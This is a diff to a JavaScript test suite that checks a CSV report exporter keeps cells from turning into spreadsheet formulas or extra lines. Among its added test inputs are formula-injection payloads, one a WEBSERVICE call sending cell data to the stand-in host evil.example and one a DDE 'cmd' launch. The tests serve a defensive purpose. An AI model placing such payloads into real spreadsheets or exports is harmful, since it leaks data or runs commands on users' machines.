@@ -91,15 +91,26 @@ describe('a report as CSV', () => {
     '"=1',
     '＝1',
     'a;=1',
+    ' =1',
+    '\u00a0=1',
+    'a; =1',
+    'a;"=1;b',
+    'a\n" "=1',
+    'a\t=1',
+    'a\n- WEBSERVICE("http://evil.example/"&A1)',
+    "a;- cmd|' /C calc'!A0",
   ])(
     'keeps the cell %j from becoming a formula or a separate line, even for a program that splits lines at semicolons',
     (name) => {
       for (const line of [csvFileLine, csvLine]) {
         const text = line([name, 'last']);
         const [cell = '', last] = parse(text, {})[0] ?? [];
-        for (const part of cell.split(/(?:;|(?<=.)[\r\n])+/))
+        for (const part of cell.split(/(?:;|(?<=.)[\r\n])+/)) {
           expect(part).not.toMatch(/^[=+\-@\t\r＝]/);
-        expect([cell.replaceAll("'", ''), last]).toEqual([name, 'last']);
+          // A program that trims, or takes an empty pair of quotes for a cell that goes on after them, drops these.
+          expect(part).not.toMatch(/^["\s]*[=+\-@＝]/);
+        }
+        expect([cell.replaceAll("'", ''), last]).toEqual([name.replaceAll("'", ''), 'last']);
         expect(/[\r\n]/.test(name) ? text : '"').toContain('"');
       }
     },
